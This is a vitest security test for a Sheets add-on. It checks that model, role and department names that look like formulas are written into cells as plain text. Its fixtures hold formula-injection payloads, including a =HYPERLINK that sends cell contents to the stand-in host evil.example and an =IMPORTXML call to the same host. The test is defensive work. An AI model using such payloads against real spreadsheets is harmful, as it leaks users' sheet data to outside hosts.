// Finding 7 as the attack: the API accepts names that look like formulas (a model named
// =HYPERLINK(…), a hire whose role is "=MLE", which resolves once punctuation is stripped). The
// built add-on writes them into a plan sheet when it opens or pulls the model; under the Apps
// Script stand-ins — which, like Sheets, turn a written "=…" into a formula — every such cell
// must hold the text, and the sheet only the add-on's own formulas.
import { afterAll, describe, expect, it } from "vitest";
import { api, startLocalWorker } from "../support/local-worker.js";
import { SpreadsheetStandIn } from "./support/apps-script-stand-ins.js";
import { loadAddon } from "./support/load-addon.js";

const worker = await startLocalWorker();
afterAll(() => worker.stop(), 30_000);
const auth = { Authorization: `Bearer ${worker.devKey}` };

const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Click")';
const EVIL_INPUT = {
  horizonMonths: 12,
  startDate: "2027-01",
  hires: [
    { role: "=MLE", level: "Mid", location: "+SF", startMonth: 1, channel: "@referral" },
    {
      role: "-Data Scientist",
      level: "Mid",
      location: "'Austin",
      startMonth: 3,
      department: "@Data",
    },
  ],
  team: [{ role: "=Staff engineer", salary: 150000, department: "+Platform" }],
  upskilling: [
    { path: "=Engineers → AI Engineers", people: 2, startMonth: 7, department: "-Enablement" },
  ],
};

describe("the stand-ins write what Sheets would", () => {
  it('setValue and setValues of "=…" make a formula; a leading apostrophe makes text', () => {
    const ss = new SpreadsheetStandIn();
    const sheet = ss.getActiveSheet();
    sheet.getRange("A1").setValue("=1+1");
    sheet.getRange("A2:B2").setValues([["=A1*2", "'=not a formula"]]);
    expect(sheet.getRange("A1:B2").getFormulas()).toEqual([
      ["=1+1", ""],
      ["=A1*2", ""],
    ]);
    expect(sheet.getRange("B2").getValues()).toEqual([["=not a formula"]]);
  });
});

describe("the add-on writes names as text, never as formulas", () => {
  it("opening and pulling a model with formula-looking names leaves text in every cell", async () => {
    const created = await api(
      worker,
      "POST",
      "/v1/models",
      { name: EVIL_NAME, input: EVIL_INPUT },
      auth,
    );
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const id = created.body.id as string;

    const addon = loadAddon();
    addon.call("saveSettings", { apiUrl: worker.url, apiKey: worker.devKey });
    const opened = addon.call("openModel", id) as { status: string; model: { sheetName: string } };
    expect(opened.status).toBe("pulled");
    const sheet = addon.ss.getSheetByName(opened.model.sheetName)!;
    const everything = sheet.getDataRange();
    const formulas = everything.getFormulas().flat().filter(Boolean);
    // Only the add-on's own live formulas over the plan.
    expect(formulas).toHaveLength(4);
    for (const f of formulas) expect(f).toMatch(/^=AI_PLAN(_SUMMARY|_WARNINGS|_DEPARTMENTS)?\(/);
    const values = everything.getValues().flat();
    for (const text of [
      EVIL_NAME,
      "=MLE",
      "+SF",
      "@referral",
      "-Data Scientist",
      "'Austin",
      "=Engineers → AI Engineers",
      "@Data",
      "=Staff engineer",
      "+Platform",
      "-Enablement",
    ])
      expect(values, text).toContain(text);

    // The sheet reads back the very plan it was given: publishing finds nothing to save.
    expect(addon.call("publishPlan")).toMatchObject({ status: "unchanged" });

    // A later version with other formula-looking names, pulled into the same sheet.
    const next = {
      ...EVIL_INPUT,
      hires: [{ role: '=IMPORTXML("https://evil.example","//a")', level: "Mid", startMonth: 2 }],
    };
    // The API refuses an unknown role; a known one behind the formula-looking text is accepted.
    const refused = await api(
      worker,
      "PUT",
      `/v1/models/${id}`,
      { input: next },
      { ...auth, "If-Match": '"v1"' },
    );
    expect(refused.status).toBe(422);
    const saved = await api(
      worker,
      "PUT",
      `/v1/models/${id}`,
      { input: { ...next, hires: [{ role: "=ML Engineer", level: "=Mid", startMonth: 2 }] } },
      { ...auth, "If-Match": '"v1"' },
    );
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    const pulled = addon.call("pullModels") as { pulled: { version: number }[] };
    expect(pulled.pulled.map((m) => m.version)).toEqual([2]);
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toHaveLength(4);
    const after = sheet.getDataRange().getValues().flat();
    expect(after).toContain("=ML Engineer");
    expect(after).toContain("=Mid");
  }, 120_000);
});
